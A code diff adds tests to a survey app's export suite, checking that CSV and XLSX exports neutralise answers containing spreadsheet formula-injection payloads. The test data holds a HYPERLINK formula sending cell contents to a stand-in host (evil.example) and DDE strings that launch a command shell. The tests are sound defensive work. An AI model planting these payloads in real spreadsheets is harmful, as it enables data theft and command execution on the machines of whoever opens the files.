@@ -69,6 +69,49 @@ describe('When a viewer exports the responses as XLSX in Spanish', () => {
   });
 });
 
+describe('When answers hold text that a spreadsheet would run as a formula', () => {
+  const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Evidence")';
+  const texts = { kenEvidence: hyperlink, kenHow: '@SUM(1+1)*cmd|" /C calc"!A0', nerEvidence: '+1+cmd|" /C calc"!A0', nerHow: '-2+3+cmd|" /C calc"!A0' };
+  let hostile: TestRound;
+
+  beforeAll(async () => {
+    hostile = await createTestRound('a1-pilot');
+    const ken = { ...kenya, a1_4_evidence: texts.kenEvidence, a1_share_how: texts.kenHow };
+    const ner = { ...niger, a1_4: 2, a1_4_evidence: texts.nerEvidence, a1_share: 'yes', a1_share_how: texts.nerHow };
+    expect((await postJson(`${app.baseUrl}/api/respondent/${hostile.kenya}/submit`, { answers: ken, baseRevision: 0 })).status).toBe(200);
+    expect((await postJson(`${app.baseUrl}/api/respondent/${hostile.niger}/submit`, { answers: ner, baseRevision: 0 })).status).toBe(200);
+  });
+
+  it('then the CSV cell starts with a quote mark, so it is shown as text, while numbers stay numbers', async () => {
+    const file = await download(`/api/rounds/${hostile.roundId}/exports/responses.csv`);
+    const rows: Record<string, string>[] = parse(file.body, { columns: true, bom: true });
+    const header = (name: string) => Object.keys(rows[0]).find((h) => h.endsWith(`[${name}]`))!;
+    expect(rows[0][header('a1_4_evidence')]).toBe(`'${texts.kenEvidence}`);
+    expect(rows[0][header('a1_share_how')]).toBe(`'${texts.kenHow}`);
+    expect(rows[1][header('a1_4_evidence')]).toBe(`'${texts.nerEvidence}`);
+    expect(rows[1][header('a1_share_how')]).toBe(`'${texts.nerHow}`);
+    expect(rows[0][header('a1_importance')]).toBe('4');
+  });
+
+  it('then the XLSX cell is the text as typed, a plain string and never a formula', async () => {
+    const file = await download(`/api/rounds/${hostile.roundId}/exports/responses.xlsx`);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
+    const sheet = workbook.getWorksheet('Responses')!;
+    const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
+    const cell = (row: number, name: string) => sheet.getRow(row).getCell(headers.findIndex((h) => h.endsWith(`[${name}]`)) + 1);
+    for (const [row, name, text] of [
+      [2, 'a1_4_evidence', texts.kenEvidence],
+      [2, 'a1_share_how', texts.kenHow],
+      [3, 'a1_4_evidence', texts.nerEvidence],
+      [3, 'a1_share_how', texts.nerHow],
+    ] as const) {
+      expect(cell(row, name).type).toBe(ExcelJS.ValueType.String);
+      expect(cell(row, name).value).toBe(text);
+    }
+  });
+});
+
 describe('When an export is asked for wrongly', () => {
   it('then without a session it is 401, for an unknown round or format 404', async () => {
     expect((await request(`${app.baseUrl}/api/rounds/${round.roundId}/exports/responses.csv`)).status).toBe(401);
